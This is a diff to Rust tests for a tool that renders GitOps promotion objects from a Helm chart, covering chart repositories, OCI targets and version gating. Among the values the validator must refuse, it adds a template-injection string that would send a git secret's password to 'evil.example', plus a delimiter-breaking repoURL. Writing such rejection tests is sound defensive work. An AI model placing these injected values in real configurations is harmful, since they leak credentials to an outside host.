@@ -113,9 +113,19 @@ fn every_rendered_object_fits_the_grounds_crds() {
 /// steps would give, checking every evaluated config against the step's schema. Returns the
 /// aliases of the steps that would run.
 fn play_steps(stage: &Value, from: &str, to: &str) -> Vec<String> {
+    play_steps_with(
+        stage,
+        from,
+        to,
+        "https://charts.external-secrets.io",
+        "external-secrets",
+    )
+}
+
+fn play_steps_with(stage: &Value, from: &str, to: &str, repo: &str, name: &str) -> Vec<String> {
     let freight = json!({"charts": [
         {"repoURL": "https://charts.jetstack.io", "name": "cert-manager", "version": to},
-        {"repoURL": "https://charts.external-secrets.io", "name": "external-secrets", "version": to}]});
+        {"repoURL": repo, "name": name, "version": to}]});
     let secrets: Map<String, Value> = [("bosun".to_string(), json!({"token": "t"}))]
         .into_iter()
         .collect();
@@ -220,6 +230,7 @@ fn a_chain_takes_freight_from_the_stage_before_it_once_verified_there() {
         prod["spec"]["verification"],
         json!({"analysisTemplates": [{"name": "cert-manager-healthy"}],
             "args": [{"name": "applications", "value": "cert-manager-prod-eu|cert-manager-prod-us"},
+                     {"name": "namespaces", "value": "argocd"},
                      {"name": "expected", "value": "2"}]})
     );
     let config = rendered
@@ -273,6 +284,24 @@ fn malformed_values_are_refused_with_the_field_named() {
             "used twice",
         ),
         (vec!["--set", "bosun.url=https://evil.example/x\"y"], "url"),
+        (
+            vec![
+                "--set-string",
+                "bosun.url=https://evil.example/?t=${{secret(`git`).password}}",
+            ],
+            "url",
+        ),
+        (
+            vec!["--set-string", "targets[0].chart.repoURL=https://x/}}${{"],
+            "repoURL",
+        ),
+        (
+            vec![
+                "--set",
+                "targets[0].stages[1].applications[1].name=cert-manager-prod-eu",
+            ],
+            "are equal",
+        ),
     ] {
         let output = template(&args);
         let stderr = String::from_utf8_lossy(&output.stderr);
@@ -303,9 +332,47 @@ proptest! {
             objects(&["--set", "targets[0].autoMerge=minor"])
         });
         let prefix = if v { "v" } else { "" };
-        let from = format!("{prefix}{}.{}.{}", a.0, a.1, a.2);
+        // A bare major (`0`, `v1`) as well as x.y.z.
+        let from = if a.2 == 2 { format!("{prefix}{}", a.0) } else { format!("{prefix}{}.{}.{}", a.0, a.1, a.2) };
         let to = format!("{}.{}.{}", b.0, b.1, b.2);
         let hold = hold_of(stage(&RENDERED, "cert-manager-staging"), &from, &to);
         prop_assert_eq!(hold, gitops_loop::gate::rules::crosses_major(&from, &to), "{} -> {}", from, to);
     }
+}
+
+#[test]
+fn an_oci_target_names_no_chart_in_its_warehouse_and_every_name_renders_as_a_string() {
+    // [K pkg/subscription/chart.go]: an oci:// repoURL names the chart; a name beside it is
+    // refused. YAML 1.1 would read `on` as a bool: every name is quoted.
+    let rendered = objects(&[
+        "--set",
+        "targets[1].chart.repoURL=oci://ghcr.io/external-secrets/charts/external-secrets",
+        "--set",
+        "targets[1].name=on",
+    ]);
+    let warehouse = rendered
+        .iter()
+        .find(|o| o["kind"] == "Warehouse" && o["metadata"]["name"] == "on")
+        .expect("the Warehouse is named the string \"on\"");
+    assert!(
+        warehouse["spec"]["subscriptions"][0]["chart"]
+            .get("name")
+            .is_none(),
+        "{warehouse}"
+    );
+    let stage = stage(&rendered, "on-prod");
+    let apps = &stage["spec"]["promotionTemplate"]["spec"]["steps"]
+        .as_array()
+        .unwrap()
+        .last()
+        .unwrap()["config"]["apps"];
+    assert!(apps[0].get("sources").is_none(), "{apps}");
+    let ran = play_steps_with(
+        stage,
+        "0.10.0",
+        "0.10.1",
+        "oci://ghcr.io/external-secrets/charts/external-secrets",
+        "",
+    );
+    assert!(ran.contains(&"wait".to_string()), "{ran:?}");
 }
